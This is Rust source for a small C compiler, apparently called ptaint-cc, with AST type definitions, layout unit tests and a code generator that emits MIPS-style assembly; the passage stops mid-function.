    /// `sizeof(T)`.
    SizeofType(Type),
    /// `sizeof expr`.
    SizeofExpr(Box<Expr>),
}

/// A statement.
#[derive(Debug, Clone, PartialEq)]
pub enum Stmt {
    /// Expression statement.
    Expr(Expr),
    /// Local declaration(s): `(type, name, initializer)`.
    Decl(Vec<(Type, String, Option<Expr>)>),
    /// `if (cond) then else els`.
    If {
        /// Condition.
        cond: Expr,
        /// Then branch.
        then: Box<Stmt>,
        /// Optional else branch.
        els: Option<Box<Stmt>>,
    },
    /// `while (cond) body`.
    While {
        /// Condition.
        cond: Expr,
        /// Loop body.
        body: Box<Stmt>,
    },
    /// `do body while (cond);`
    DoWhile {
        /// Loop body.
        body: Box<Stmt>,
        /// Condition.
        cond: Expr,
    },
    /// `for (init; cond; step) body` — any clause may be absent.
    For {
        /// Initializer (declaration or expression).
        init: Option<Box<Stmt>>,
        /// Condition.
        cond: Option<Expr>,
        /// Step expression.
        step: Option<Expr>,
        /// Loop body.
        body: Box<Stmt>,
    },
    /// `return e;`
    Return(Option<Expr>, u32),
    /// `break;`
    Break(u32),
    /// `continue;`
    Continue(u32),
    /// `{ ... }`
    Block(Vec<Stmt>),
    /// `;`
    Empty,
}

/// Initializer of a global variable.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum GlobalInit {
    /// Scalar integer.
    Int(i64),
    /// String contents for a `char[]` / `char*` global.
    Str(Vec<u8>),
    /// `{ a, b, c }` for an int array.
    List(Vec<i64>),
}

/// A top-level item.
#[derive(Debug, Clone, PartialEq)]
pub enum Item {
    /// A function definition or prototype (`body == None`).
    Func {
        /// Return type.
        ret: Type,
        /// Function name.
        name: String,
        /// Named parameters.
        params: Vec<(Type, String)>,
        /// Whether `...` follows the named parameters.
        variadic: bool,
        /// Body statements, absent for prototypes.
        body: Option<Vec<Stmt>>,
        /// Definition line.
        line: u32,
    },
    /// A global variable.
    Global {
        /// Declared type.
        ty: Type,
        /// Name.
        name: String,
        /// Optional initializer.
        init: Option<GlobalInit>,
        /// Declaration line.
        line: u32,
    },
}

/// A parsed translation unit.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Program {
    /// Top-level items in source order.
    pub items: Vec<Item>,
    /// Struct definitions with computed layouts.
    pub structs: HashMap<String, StructDef>,
}

#[cfg(test)]
mod tests {
    use super::*;

    fn no_structs() -> HashMap<String, StructDef> {
        HashMap::new()
    }

    #[test]
    fn scalar_sizes() {
        let s = no_structs();
        assert_eq!(Type::Int.size_of(&s), 4);
        assert_eq!(Type::Uint.size_of(&s), 4);
        assert_eq!(Type::Char.size_of(&s), 1);
        assert_eq!(Type::Char.ptr().size_of(&s), 4);
        assert_eq!(Type::Array(Box::new(Type::Char), 10).size_of(&s), 10);
        assert_eq!(Type::Array(Box::new(Type::Int), 3).size_of(&s), 12);
    }

    #[test]
    fn alignment() {
        let s = no_structs();
        assert_eq!(Type::Char.align_of(&s), 1);
        assert_eq!(Type::Int.align_of(&s), 4);
        assert_eq!(Type::Array(Box::new(Type::Char), 7).align_of(&s), 1);
    }

    #[test]
    fn struct_layout_lookup() {
        let def = StructDef {
            fields: vec![
                ("fd".into(), 0, Type::Int.ptr()),
                ("bk".into(), 4, Type::Int.ptr()),
            ],
            size: 8,
            align: 4,
        };
        assert_eq!(def.field("bk").unwrap().0, 4);
        assert!(def.field("nope").is_none());
        let mut structs = no_structs();
        structs.insert("chunk".into(), def);
        assert_eq!(Type::Struct("chunk".into()).size_of(&structs), 8);
    }

    #[test]
    fn signedness() {
        assert!(!Type::Int.is_unsigned());
        assert!(Type::Uint.is_unsigned());
        assert!(Type::Int.ptr().is_unsigned());
        assert!(Type::Char.ptr().is_pointer_like());
        assert_eq!(Type::Int.ptr().pointee(), Some(&Type::Int));
    }
}
