//! Code generation: typed AST → ptaint assembly text.
//!
//! The generator is a classic one-pass accumulator machine:
//!
//! * expression results live in `$v0`; binary operations spill the left
//!   operand to an expression stack below `$sp` and reload it into `$t1`;
//! * locals are addressed off `$fp` (see the crate docs for the frame
//!   layout); incoming argument *i* lives at `fp + 4*i`;
//! * `$t0`, `$t1`, `$t9`, and `$at` are scratch; nothing is live across a
//!   call except memory.
//!
//! Type checking happens during generation: every `gen_*` returns the static
//! type of the value it produced, and type errors carry source lines.

use std::collections::HashMap;
use std::fmt::Write as _;

use crate::ast::{BinOp, Expr, ExprKind, GlobalInit, Item, Program, Stmt, StructDef, Type, UnOp};
use crate::CcError;

/// Compiles a parsed [`Program`] to assembly text.
///
/// # Errors
///
/// Returns a [`CcError`] for semantic errors: unknown names, bad types,
/// wrong arity, assignment to rvalues, and aggregates used as values.
pub fn compile_program(program: &Program) -> Result<String, CcError> {
    let mut cg = Codegen::new(program);
    cg.run()?;
    Ok(cg.finish())
}

#[derive(Clone)]
struct FuncSig {
    ret: Type,
    params: Vec<Type>,
    variadic: bool,
}

#[derive(Clone)]
struct LocalSlot {
    /// Byte offset relative to `$fp` (negative for locals, non-negative for
    /// parameters).
    offset: i32,
    ty: Type,
}

struct Codegen<'a> {
    program: &'a Program,
    structs: &'a HashMap<String, StructDef>,
    globals: HashMap<String, Type>,
    funcs: HashMap<String, FuncSig>,
    text: String,
    data: String,
    strings: Vec<(String, Vec<u8>)>,
    label_count: u32,

    // Per-function state.
    body: String,
    scopes: Vec<HashMap<String, LocalSlot>>,
    frame_next: u32,
    frame_max: u32,
    ret_label: String,
    break_labels: Vec<String>,
    continue_labels: Vec<String>,
}

impl<'a> Codegen<'a> {
    fn new(program: &'a Program) -> Codegen<'a> {
        Codegen {
            program,
            structs: &program.structs,
            globals: HashMap::new(),
            funcs: HashMap::new(),
            text: String::new(),
            data: String::new(),
            strings: Vec::new(),
            label_count: 0,
            body: String::new(),
            scopes: Vec::new(),
            frame_next: 8,
            frame_max: 8,
            ret_label: String::new(),
            break_labels: Vec::new(),
            continue_labels: Vec::new(),
        }
    }

    fn fresh_label(&mut self, stem: &str) -> String {
        self.label_count += 1;
        format!("_L{}_{stem}", self.label_count)
    }

    fn o(&mut self, line: &str) {
        self.body.push_str("        ");
        self.body.push_str(line);
        self.body.push('\n');
    }

    fn label(&mut self, name: &str) {
        let _ = writeln!(self.body, "{name}:");
    }

    fn size_of(&self, ty: &Type, line: u32) -> Result<u32, CcError> {
        match ty {
            Type::Void => Err(CcError::new(line, "`void` has no size")),
            Type::Func { .. } => Err(CcError::new(line, "functions have no size")),
            Type::Struct(name) if !self.structs.contains_key(name) => {
                Err(CcError::new(line, format!("unknown struct `{name}`")))
            }
            _ => Ok(ty.size_of(self.structs)),
        }
    }

    // ---------------- driver ----------------

    fn run(&mut self) -> Result<(), CcError> {
        // Collect signatures and global types first (forward references).
        for item in &self.program.items {
            match item {
                Item::Func {
                    ret,
                    name,
                    params,
                    variadic,
                    line,
                    ..
                } => {
                    let sig = FuncSig {
                        ret: ret.clone(),
                        params: params.iter().map(|(t, _)| t.clone()).collect(),
                        variadic: *variadic,
                    };
                    if let Some(prev) = self.funcs.get(name) {
                        if prev.params.len() != sig.params.len() || prev.variadic != sig.variadic {
                            return Err(CcError::new(
                                *line,
                                format!("conflicting declarations of `{name}`"),
                            ));
                        }
                    }
                    self.funcs.insert(name.clone(), sig);
                }
                Item::Global { ty, name, line, .. } => {
                    // Validate the size eagerly.
                    let _ = self.size_of(ty, *line)?;
                    if self.globals.insert(name.clone(), ty.clone()).is_some() {
                        return Err(CcError::new(*line, format!("duplicate global `{name}`")));
                    }
                }
            }
        }

        for item in &self.program.items {
            match item {
                Item::Func {
                    name,
                    params,
                    body: Some(body),
                    line,
                    ..
                } => self.gen_function(name, params, body, *line)?,
                Item::Func { .. } => {}
                Item::Global {
                    ty,
                    name,
                    init,
                    line,
                } => {
                    self.emit_global(ty, name, init.as_ref(), *line)?;
                }
            }
        }
        Ok(())
    }

    fn finish(mut self) -> String {
        let mut out = String::new();
        out.push_str("# generated by ptaint-cc\n        .data\n");
        out.push_str(&self.data);
        for (label, bytes) in std::mem::take(&mut self.strings) {
            let _ = writeln!(out, "{label}:");
            let mut text_bytes = bytes.clone();
            text_bytes.push(0);
            let list = text_bytes
                .iter()
                .map(|b| b.to_string())
                .collect::<Vec<_>>()
                .join(", ");
            let _ = writeln!(out, "        .byte {list}");
        }
        out.push_str("        .text\n");
        out.push_str(&self.text);
        out
    }

    // ---------------- globals ----------------

    fn emit_global(
        &mut self,
        ty: &Type,
        name: &str,
        init: Option<&GlobalInit>,
        line: u32,
    ) -> Result<(), CcError> {
        let size = self.size_of(ty, line)?;
        let align_words = ty.align_of(self.structs) >= 4;
        if align_words {
            self.data.push_str("        .align 2\n");
        }
        let _ = writeln!(self.data, "{name}:");
        match (ty, init) {
            (_, None) => {
                let _ = writeln!(self.data, "        .space {size}");
            }
            (Type::Int | Type::Uint | Type::Ptr(_), Some(GlobalInit::Int(v))) => {
                let _ = writeln!(self.data, "        .word {v}");
            }
            (Type::Char, Some(GlobalInit::Int(v))) => {
                let _ = writeln!(self.data, "        .byte {v}");
            }
            (Type::Ptr(inner), Some(GlobalInit::Str(s))) if **inner == Type::Char => {
                let label = self.intern_string(s.clone());
                let _ = writeln!(self.data, "        .word {label}");
            }
            (Type::Array(elem, n), Some(GlobalInit::Str(s))) if **elem == Type::Char => {
                if s.len() + 1 > *n as usize {
                    return Err(CcError::new(line, "string initializer longer than array"));
                }
                let mut bytes = s.clone();
                bytes.resize(*n as usize, 0);
                let list = bytes
                    .iter()
                    .map(|b| b.to_string())
                    .collect::<Vec<_>>()
                    .join(", ");
                let _ = writeln!(self.data, "        .byte {list}");
            }
            (Type::Array(elem, n), Some(GlobalInit::List(vals)))
                if matches!(**elem, Type::Int | Type::Uint) =>
            {
                if vals.len() > *n as usize {
                    return Err(CcError::new(line, "too many initializers"));
                }
                for v in vals {
                    let _ = writeln!(self.data, "        .word {v}");
                }
                let missing = (*n as usize - vals.len()) * 4;
                if missing > 0 {
                    let _ = writeln!(self.data, "        .space {missing}");
                }
            }
            _ => {
                return Err(CcError::new(
                    line,
                    format!("unsupported initializer for global `{name}`"),
                ))
            }
        }
        Ok(())
    }

    fn intern_string(&mut self, bytes: Vec<u8>) -> String {
        if let Some((label, _)) = self.strings.iter().find(|(_, b)| *b == bytes) {
            return label.clone();
        }
        let label = format!("_Str{}", self.strings.len());
        self.strings.push((label.clone(), bytes));
        label
    }

    // ---------------- functions ----------------

    fn gen_function(
        &mut self,
        name: &str,
        params: &[(Type, String)],
        body: &[Stmt],
        line: u32,
    ) -> Result<(), CcError> {
        self.body.clear();
        self.scopes.clear();
        self.scopes.push(HashMap::new());
        self.frame_next = 8;
        self.frame_max = 8;
        self.ret_label = self.fresh_label("ret");

        for (i, (ty, pname)) in params.iter().enumerate() {
            if pname.is_empty() {
                return Err(CcError::new(line, "parameter name required in definition"));
            }
            self.scopes.last_mut().expect("scope").insert(
                pname.clone(),
                LocalSlot {
                    offset: 4 * i as i32,
                    ty: ty.clone(),
                },
            );
        }

        for stmt in body {
            self.gen_stmt(stmt)?;
        }

        // Stitch prologue + body + epilogue.
        let frame = self.frame_max.div_ceil(8) * 8;
        let _ = writeln!(self.text, "{name}:");
        let _ = writeln!(self.text, "        addiu $sp, $sp, -{frame}");
        let _ = writeln!(self.text, "        sw $ra, {}($sp)", frame - 4);
        let _ = writeln!(self.text, "        sw $fp, {}($sp)", frame - 8);
        let _ = writeln!(self.text, "        addiu $fp, $sp, {frame}");
        self.text.push_str(&self.body);
        let _ = writeln!(self.text, "{}:", self.ret_label);
        // sp = fp pops the whole frame including any leaked temporaries.
        let _ = writeln!(self.text, "        move $sp, $fp");
        let _ = writeln!(self.text, "        lw $ra, -4($sp)");
        let _ = writeln!(self.text, "        lw $fp, -8($sp)");
        let _ = writeln!(self.text, "        jr $ra");
        Ok(())
    }

    fn alloc_local(&mut self, ty: &Type, line: u32) -> Result<i32, CcError> {
        let size = self.size_of(ty, line)?;
        let align = ty.align_of(self.structs).max(1);
        let mut next = self.frame_next + size;
        next = next.div_ceil(align) * align;
        self.frame_next = next;
        self.frame_max = self.frame_max.max(next);
        Ok(-(next as i32))
    }

    fn lookup(&self, name: &str) -> Option<&LocalSlot> {
        self.scopes.iter().rev().find_map(|s| s.get(name))
    }

    // ---------------- statements ----------------

    fn gen_stmt(&mut self, stmt: &Stmt) -> Result<(), CcError> {
        match stmt {
            Stmt::Empty => {}
            Stmt::Expr(e) => {
                self.gen_expr(e)?;
            }
            Stmt::Block(stmts) => {
                self.scopes.push(HashMap::new());
                let saved = self.frame_next;
                for s in stmts {
                    self.gen_stmt(s)?;
                }
                self.scopes.pop();
                self.frame_next = saved;
            }
            Stmt::Decl(decls) => {
                for (ty, name, init) in decls {
                    let line = init.as_ref().map_or(0, |e| e.line);
                    let offset = self.alloc_local(ty, line)?;
                    self.scopes.last_mut().expect("scope").insert(
                        name.clone(),
                        LocalSlot {
                            offset,
                            ty: ty.clone(),
                        },
                    );
                    if let Some(e) = init {
                        if matches!(ty, Type::Array(..) | Type::Struct(_)) {
                            return Err(CcError::new(
                                e.line,
                                "aggregate locals cannot have initializers",
                            ));
                        }
                        let rt = self.gen_expr(e)?;
                        self.check_assignable(ty, &rt, e.line)?;
                        self.o(&format!("addiu $t1, $fp, {offset}"));
                        self.store_to_t1(ty);
                    }
                }
            }
            Stmt::If { cond, then, els } => {
                let lelse = self.fresh_label("else");
                let lend = self.fresh_label("endif");
                self.gen_expr(cond)?;
                self.o(&format!("beq $v0, $zero, {lelse}"));
                self.gen_stmt(then)?;
                if let Some(els) = els {
                    self.o(&format!("b {lend}"));
                    self.label(&lelse.clone());
                    self.gen_stmt(els)?;
                    self.label(&lend.clone());
                } else {
                    self.label(&lelse.clone());
                }
            }
            Stmt::While { cond, body } => {
                let ltop = self.fresh_label("while");
                let lend = self.fresh_label("endwhile");
                self.label(&ltop.clone());
                self.gen_expr(cond)?;
                self.o(&format!("beq $v0, $zero, {lend}"));
                self.break_labels.push(lend.clone());
                self.continue_labels.push(ltop.clone());
                self.gen_stmt(body)?;
                self.break_labels.pop();
                self.continue_labels.pop();
                self.o(&format!("b {ltop}"));
                self.label(&lend.clone());
            }
            Stmt::DoWhile { body, cond } => {
                let ltop = self.fresh_label("do");
                let lcond = self.fresh_label("docond");
                let lend = self.fresh_label("enddo");
                self.label(&ltop.clone());
                self.break_labels.push(lend.clone());
                self.continue_labels.push(lcond.clone());
                self.gen_stmt(body)?;
                self.break_labels.pop();
                self.continue_labels.pop();
                self.label(&lcond.clone());
                self.gen_expr(cond)?;
                self.o(&format!("bne $v0, $zero, {ltop}"));
                self.label(&lend.clone());
            }
            Stmt::For {
                init,
                cond,
                step,
                body,
            } => {
                self.scopes.push(HashMap::new());
                let saved = self.frame_next;
                if let Some(init) = init {
                    self.gen_stmt(init)?;
                }
                let ltop = self.fresh_label("for");
                let lstep = self.fresh_label("forstep");
                let lend = self.fresh_label("endfor");
                self.label(&ltop.clone());
                if let Some(cond) = cond {
                    self.gen_expr(cond)?;
                    self.o(&format!("beq $v0, $zero, {lend}"));
                }
                self.break_labels.push(lend.clone());
                self.continue_labels.push(lstep.clone());
                self.gen_stmt(body)?;
                self.break_labels.pop();
                self.continue_labels.pop();
                self.label(&lstep.clone());
                if let Some(step) = step {
                    self.gen_expr(step)?;
                }
                self.o(&format!("b {ltop}"));
                self.label(&lend.clone());
                self.scopes.pop();
                self.frame_next = saved;
            }
            Stmt::Return(value, _line) => {
                if let Some(e) = value {
                    self.gen_expr(e)?;
                }
                let l = self.ret_label.clone();
                self.o(&format!("b {l}"));
            }
            Stmt::Break(line) => {
                let l = self
                    .break_labels
                    .last()
                    .ok_or_else(|| CcError::new(*line, "`break` outside a loop"))?
                    .clone();
                self.o(&format!("b {l}"));
            }
            Stmt::Continue(line) => {
                let l = self
                    .continue_labels
                    .last()
                    .ok_or_else(|| CcError::new(*line, "`continue` outside a loop"))?
                    .clone();
                self.o(&format!("b {l}"));
            }
        }
        Ok(())
    }

    // ---------------- expression helpers ----------------

    fn push_v0(&mut self) {
        self.o("addiu $sp, $sp, -4");
        self.o("sw $v0, 0($sp)");
    }

    fn pop_t1(&mut self) {
        self.o("lw $t1, 0($sp)");
        self.o("addiu $sp, $sp, 4");
    }

    /// Loads the value at address `$v0` according to `ty`; returns the value
    /// type (decayed).
    fn load_from_v0(&mut self, ty: &Type) -> Type {
        match ty {
            Type::Char => {
                self.o("lb $v0, 0($v0)");
                Type::Char
            }
            Type::Array(elem, _) => Type::Ptr(elem.clone()), // decay: address is the value
            Type::Struct(_) | Type::Func { .. } => ty.clone(), // address stands for the aggregate
            _ => {
                self.o("lw $v0, 0($v0)");
                ty.clone()
            }
        }
    }

    /// Stores `$v0` to address `$t1` with the width of `ty`.
    fn store_to_t1(&mut self, ty: &Type) {
        if matches!(ty, Type::Char) {
            self.o("sb $v0, 0($t1)");
        } else {
            self.o("sw $v0, 0($t1)");
        }
    }

    fn check_assignable(&self, _lhs: &Type, _rhs: &Type, _line: u32) -> Result<(), CcError> {
        // The mini-C dialect is deliberately permissive (like pre-ANSI C):
        // ints and pointers interconvert freely, which the vulnerable guest
        // programs rely on. Sizes are handled by the store width.
        Ok(())
    }

    /// Scales `$v0` (an integer) by the size of `elem` for pointer
    /// arithmetic.
    fn scale_v0(&mut self, elem: &Type, line: u32) -> Result<(), CcError> {
        let size = self.size_of(elem, line)?;
        match size {
            1 => {}
            2 | 4 | 8 | 16 | 32 | 64 | 128 | 256 => {
                self.o(&format!("sll $v0, $v0, {}", size.trailing_zeros()));
            }
            _ => {
                self.o(&format!("li $t0, {size}"));
                self.o("multu $v0, $t0");
                self.o("mflo $v0");
            }
        }
        Ok(())
    }

    // ---------------- lvalues ----------------

    /// Generates the *address* of an lvalue into `$v0`; returns the type of
    /// the object at that address.
    fn gen_addr(&mut self, e: &Expr) -> Result<Type, CcError> {
        match &e.kind {
            ExprKind::Ident(name) => {
                if let Some(slot) = self.lookup(name).cloned() {
                    self.o(&format!("addiu $v0, $fp, {}", slot.offset));
                    return Ok(slot.ty);
                }
                if let Some(ty) = self.globals.get(name).cloned() {
                    self.o(&format!("la $v0, {name}"));
                    return Ok(ty);
                }
                if let Some(sig) = self.funcs.get(name).cloned() {
                    self.o(&format!("la $v0, {name}"));
                    return Ok(Type::Func {
                        ret: Box::new(sig.ret),
                        params: sig.params,
                        variadic: sig.variadic,
                    });
                }
                Err(CcError::new(e.line, format!("undefined name `{name}`")))
            }
            ExprKind::Unary(UnOp::Deref, inner) => {
                let ty = self.gen_expr(inner)?;
                match ty {
                    Type::Ptr(p) => Ok(*p),
                    other => Err(CcError::new(
                        e.line,
                        format!("cannot dereference non-pointer type {other:?}"),
                    )),
                }
            }
            ExprKind::Index(base, idx) => {
                let base_ty = self.gen_expr(base)?;
                let elem = match &base_ty {
                    Type::Ptr(p) => (**p).clone(),
                    other => {
                        return Err(CcError::new(
                            e.line,
                            format!("cannot index non-pointer type {other:?}"),
                        ))
                    }
                };
                self.push_v0();
                self.gen_expr(idx)?;
                self.scale_v0(&elem, e.line)?;
                self.pop_t1();
                self.o("addu $v0, $t1, $v0");
                Ok(elem)
            }
            ExprKind::Member { base, field, arrow } => {
                let (struct_name, line) = if *arrow {
                    let ty = self.gen_expr(base)?;
                    match ty {
                        Type::Ptr(inner) => match *inner {
                            Type::Struct(name) => (name, e.line),
                            other => {
                                return Err(CcError::new(
                                    e.line,
                                    format!("`->` on pointer to non-struct {other:?}"),
                                ))
                            }
                        },
                        other => {
                            return Err(CcError::new(
                                e.line,
                                format!("`->` on non-pointer {other:?}"),
                            ))
                        }
                    }
                } else {
                    let ty = self.gen_addr(base)?;
                    match ty {
                        Type::Struct(name) => (name, e.line),
                        other => {
                            return Err(CcError::new(
                                e.line,
                                format!("`.` on non-struct {other:?}"),
                            ))
                        }
                    }
                };
                let def = self
                    .structs
                    .get(&struct_name)
                    .ok_or_else(|| CcError::new(line, format!("unknown struct `{struct_name}`")))?;
                let (offset, fty) =
                    def.field(field)
                        .map(|(o, t)| (o, t.clone()))
                        .ok_or_else(|| {
                            CcError::new(
                                line,
                                format!("struct `{struct_name}` has no field `{field}`"),
                            )
                        })?;
                if offset != 0 {
                    self.o(&format!("addiu $v0, $v0, {offset}"));
                }
                Ok(fty)
            }
            ExprKind::Cast(ty, inner) => {
                // Casting an lvalue keeps the address, reinterprets the type:
                // *(int*)p = v  parses as Deref(Cast(..)) and lands in Deref.
                let _ = self.gen_addr(inner)?;
                Ok(ty.clone())
            }
            _ => Err(CcError::new(e.line, "expression is not an lvalue")),
        }
    }

    // ---------------- expressions ----------------

    #[allow(clippy::too_many_lines)]
    fn gen_expr(&mut self, e: &Expr) -> Result<Type, CcError> {
        match &e.kind {
            ExprKind::Int(v) => {
                self.o(&format!("li $v0, {v}"));
                Ok(Type::Int)
            }
            ExprKind::Str(s) => {
                let label = self.intern_string(s.clone());
                self.o(&format!("la $v0, {label}"));
                Ok(Type::Char.ptr())
            }
            ExprKind::Ident(_) | ExprKind::Member { .. } | ExprKind::Index(..) => {
                let ty = self.gen_addr(e)?;
                Ok(self.load_from_v0(&ty))
            }
            ExprKind::Unary(UnOp::Deref, _) => {
                let ty = self.gen_addr(e)?;
                match &ty {
                    Type::Struct(_) => Err(CcError::new(
                        e.line,
                        "cannot load a whole struct; take a member",
                    )),
                    _ => Ok(self.load_from_v0(&ty)),
                }
            }
            ExprKind::Unary(UnOp::Addr, inner) => {
                let ty = self.gen_addr(inner)?;
                Ok(ty.ptr())
            }
            ExprKind::Unary(UnOp::Neg, inner) => {
                let t = self.gen_expr(inner)?;
                self.o("subu $v0, $zero, $v0");
                Ok(promote(&t))
            }
            ExprKind::Unary(UnOp::Not, inner) => {
                self.gen_expr(inner)?;
                self.o("sltiu $v0, $v0, 1");
                Ok(Type::Int)
            }
            ExprKind::Unary(UnOp::BitNot, inner) => {
                let t = self.gen_expr(inner)?;
                self.o("nor $v0, $v0, $zero");
                Ok(promote(&t))
            }
            ExprKind::Cast(ty, inner) => {
                self.gen_expr(inner)?;
                if matches!(ty, Type::Char) {
                    // Truncate to byte with sign extension.
                    self.o("sll $v0, $v0, 24");
                    self.o("sra $v0, $v0, 24");
                }
                Ok(ty.clone())
            }
            ExprKind::SizeofType(ty) => {
                let size = self.size_of(ty, e.line)?;
                self.o(&format!("li $v0, {size}"));
                Ok(Type::Uint)
            }
            ExprKind::SizeofExpr(inner) => {
                // Compute the type without emitting code.
                let snapshot = self.body.len();
                let ty = self.gen_addr(inner).or_else(|_| self.gen_expr(inner))?;
                self.body.truncate(snapshot);
                let size = self.size_of(&ty, e.line)?;
                self.o(&format!("li $v0, {size}"));
                Ok(Type::Uint)
            }
            ExprKind::Assign(None, lhs, rhs) => {
                let lty = self.gen_addr(lhs)?;
                if matches!(lty, Type::Struct(_) | Type::Array(..)) {
                    return Err(CcError::new(e.line, "cannot assign to an aggregate"));
                }
                self.push_v0();
                let rty = self.gen_expr(rhs)?;
                self.check_assignable(&lty, &rty, e.line)?;
                self.pop_t1();
                self.store_to_t1(&lty);
                Ok(lty)
            }
            ExprKind::Assign(Some(op), lhs, rhs) => {
                let lty = self.gen_addr(lhs)?;
                self.push_v0(); // address
                let cur = self.load_from_v0(&lty);
                self.push_v0(); // current value (consumed by apply_binop)
                let rty = self.gen_expr(rhs)?;
                self.apply_binop(*op, &cur, &rty, e.line)?;
                self.pop_t1(); // address
                self.store_to_t1(&lty);
                Ok(lty)
            }
            ExprKind::PreIncDec(inc, inner) => {
                let lty = self.gen_addr(inner)?;
                self.o("move $t1, $v0");
                self.push_v0(); // address
                let _ = self.load_from_v0(&lty);
                let delta = self.incdec_delta(&lty, e.line)?;
                let signed = if *inc { delta } else { -delta };
                self.o(&format!("addiu $v0, $v0, {signed}"));
                self.pop_t1(); // address
                self.store_to_t1(&lty);
                Ok(lty)
            }
            ExprKind::PostIncDec(inc, inner) => {
                let lty = self.gen_addr(inner)?;
                self.push_v0(); // address
                let _ = self.load_from_v0(&lty);
                self.push_v0(); // old value
                let delta = self.incdec_delta(&lty, e.line)?;
                let signed = if *inc { delta } else { -delta };
                self.o(&format!("addiu $v0, $v0, {signed}"));
                // stack: [address, old]; store new, return old.
                self.o("lw $t1, 4($sp)"); // address
                self.store_to_t1(&lty);
                self.pop_t1(); // old -> t1
                self.o("move $v0, $t1");
                self.o("addiu $sp, $sp, 4"); // drop address
                Ok(lty)
            }
            ExprKind::Binary(BinOp::LogAnd, lhs, rhs) => {
                let lfalse = self.fresh_label("andf");
                let lend = self.fresh_label("ande");
                self.gen_expr(lhs)?;
                self.o(&format!("beq $v0, $zero, {lfalse}"));
                self.gen_expr(rhs)?;
                self.o(&format!("beq $v0, $zero, {lfalse}"));
                self.o("li $v0, 1");
                self.o(&format!("b {lend}"));
                self.label(&lfalse.clone());
                self.o("li $v0, 0");
                self.label(&lend.clone());
                Ok(Type::Int)
            }
            ExprKind::Binary(BinOp::LogOr, lhs, rhs) => {
                let ltrue = self.fresh_label("ort");
                let lend = self.fresh_label("ore");
                self.gen_expr(lhs)?;
                self.o(&format!("bne $v0, $zero, {ltrue}"));
                self.gen_expr(rhs)?;
                self.o(&format!("bne $v0, $zero, {ltrue}"));
                self.o("li $v0, 0");
                self.o(&format!("b {lend}"));
                self.label(&ltrue.clone());
                self.o("li $v0, 1");
                self.label(&lend.clone());
                Ok(Type::Int)
            }
            ExprKind::Binary(op, lhs, rhs) => {
                let lty = self.gen_expr(lhs)?;
                self.push_v0();
                let rty = self.gen_expr(rhs)?;
                self.apply_binop(*op, &lty, &rty, e.line)
            }
            ExprKind::Ternary(cond, a, b) => {
                let lelse = self.fresh_label("terf");
                let lend = self.fresh_label("tere");
                self.gen_expr(cond)?;
                self.o(&format!("beq $v0, $zero, {lelse}"));
                let ta = self.gen_expr(a)?;
                self.o(&format!("b {lend}"));
                self.label(&lelse.clone());
                let _tb = self.gen_expr(b)?;
                self.label(&lend.clone());
                Ok(ta)
            }
            ExprKind::Call(callee, args) => self.gen_call(callee, args, e.line),
        }
    }

    fn incdec_delta(&self, ty: &Type, line: u32) -> Result<i32, CcError> {
        Ok(match ty {
            Type::Ptr(p) => self.size_of(p, line)? as i32,
            _ => 1,
        })
    }

    /// Applies `op` to the spilled left operand (on the expression stack) and
    /// `$v0`; pops the stack; leaves the result in `$v0`.
    fn apply_binop(
        &mut self,
        op: BinOp,
        lty: &Type,
        rty: &Type,
        line: u32,
    ) -> Result<Type, CcError> {
        // Pointer arithmetic scaling.
        let mut result_ty = combine(lty, rty);
        match op {
            BinOp::Add => {
                if let Some(elem) = lty.pointee() {
                    let elem = elem.clone();
                    self.scale_v0(&elem, line)?; // scale rhs index
                    result_ty = Type::Ptr(Box::new(elem));
                } else if let Some(elem) = rty.pointee() {
                    // int + ptr: scale the *left* operand (on the stack).
                    let elem = elem.clone();
                    self.pop_t1();
                    self.o("move $t0, $v0"); // t0 = ptr
                    self.o("move $v0, $t1"); // v0 = int
                    self.scale_v0(&elem, line)?;
                    self.o("move $t1, $v0");
                    self.o("move $v0, $t0");
                    self.push_v0();
                    self.o("move $v0, $t1");
                    // stack: [ptr]; v0 = scaled int — fall through to addu.
                    result_ty = Type::Ptr(Box::new(elem));
                }
            }
            BinOp::Sub => {
                if lty.is_pointer_like() && rty.is_pointer_like() {
                    // ptr - ptr: difference in elements.
                    let elem = lty.pointee().expect("pointer").clone();
                    self.pop_t1();
                    self.o("subu $v0, $t1, $v0");
                    let size = self.size_of(&elem, line)?;
                    if size > 1 {
                        self.o(&format!("li $t0, {size}"));
                        self.o("divu $v0, $t0");
                        self.o("mflo $v0");
                    }
                    return Ok(Type::Int);
                }
                if let Some(elem) = lty.pointee() {
                    let elem = elem.clone();
                    self.scale_v0(&elem, line)?;
                    result_ty = Type::Ptr(Box::new(elem));
                }
            }
            _ => {}
        }

        self.pop_t1(); // t1 = lhs, v0 = rhs
        let unsigned = lty.is_unsigned() || rty.is_unsigned();
        match op {
            BinOp::Add => self.o("addu $v0, $t1, $v0"),
            BinOp::Sub => self.o("subu $v0, $t1, $v0"),
            BinOp::Mul => {
                self.o("multu $v0, $t1");
                self.o("mflo $v0");
            }
            BinOp::Div => {
                if unsigned {
                    self.o("divu $t1, $v0");
                } else {
                    self.o("div $t1, $v0");
                }
                self.o("mflo $v0");
            }
            BinOp::Rem => {
                if unsigned {
                    self.o("divu $t1, $v0");
                } else {
                    self.o("div $t1, $v0");
                }
                self.o("mfhi $v0");
            }
            BinOp::And => self.o("and $v0, $t1, $v0"),
            BinOp::Or => self.o("or $v0, $t1, $v0"),
            BinOp::Xor => self.o("xor $v0, $t1, $v0"),
            BinOp::Shl => self.o("sllv $v0, $t1, $v0"),
            BinOp::Shr => {
                if unsigned {
                    self.o("srlv $v0, $t1, $v0");
                } else {
                    self.o("srav $v0, $t1, $v0");
                }
            }
            BinOp::Eq => {
                self.o("xor $v0, $t1, $v0");
                self.o("sltiu $v0, $v0, 1");
                result_ty = Type::Int;
            }
            BinOp::Ne => {
                self.o("xor $v0, $t1, $v0");
                self.o("sltu $v0, $zero, $v0");
                result_ty = Type::Int;
            }
            BinOp::Lt => {
                self.o(if unsigned {
                    "sltu $v0, $t1, $v0"
                } else {
                    "slt $v0, $t1, $v0"
                });
                result_ty = Type::Int;
            }
            BinOp::Gt => {
                self.o(if unsigned {
                    "sltu $v0, $v0, $t1"
                } else {
                    "slt $v0, $v0, $t1"
                });
                result_ty = Type::Int;
            }
            BinOp::Le => {
                self.o(if unsigned {
                    "sltu $v0, $v0, $t1"
                } else {
                    "slt $v0, $v0, $t1"
                });
                self.o("xori $v0, $v0, 1");
                result_ty = Type::Int;
            }
            BinOp::Ge => {
                self.o(if unsigned {
                    "sltu $v0, $t1, $v0"
                } else {
